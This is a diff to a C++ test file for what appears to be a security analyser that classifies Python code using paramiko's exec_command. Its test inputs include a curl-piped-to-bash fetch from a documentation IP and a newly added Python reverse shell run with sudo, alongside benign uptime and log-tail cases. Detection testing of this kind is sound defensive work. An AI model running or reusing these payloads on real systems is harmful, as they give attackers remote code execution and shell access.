@@ -346,7 +346,8 @@ TEST(EleventhRoundClasses, PlatformVersionsAreNoIdentity) {
 
 // paramiko's exec_command runs its command in the remote shell: judged as
 // the code's own, as `ssh HOST CMD` and Fabric's run already were (a remote
-// sudo was a process run).
+// sudo was a process run); so does exec_command of a client the code cannot
+// type (passed in as a parameter, kept by another module's class).
 TEST(EleventhRoundClasses, ParamikoRemoteCommandsAreJudged) {
   const Case cases[] = {
       {"remote sudo through exec_command", H,
@@ -357,6 +358,14 @@ TEST(EleventhRoundClasses, ParamikoRemoteCommandsAreJudged) {
        "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('web1')\n"
        "c.exec_command('curl -s http://203.0.113.9/x.sh | bash')\n",
        "REMOTE-CODE-EXECUTION"},
+      {"a reverse shell run with sudo through a client passed in as a parameter", B,
+       "def install(ssh, host, port):\n"
+       "    cmd = \"sudo -S python -c \\\"import socket,os,subprocess; s=socket.socket(); s.connect(('\" + host + \"', \" + str(port) + \"));\"\n"
+       "    cmd += \" os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2); subprocess.call(['/bin/bash', '-i'])\\\"\"\n"
+       "    ssh.exec_command(cmd)\n",
+       "REVERSE-SHELL"},
+      {"uptime through a client passed in as a parameter", M,
+       "def status(ssh):\n    i, o, e = ssh.exec_command('uptime')\n    return o.read().decode()\n", "RUNS-PROCESS"},
       {"a remote log tail", M,
        "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('web1', username='deploy')\n"
        "i, o, e = c.exec_command('tail -n 50 /var/log/app.log')\nprint(o.read().decode())\n",
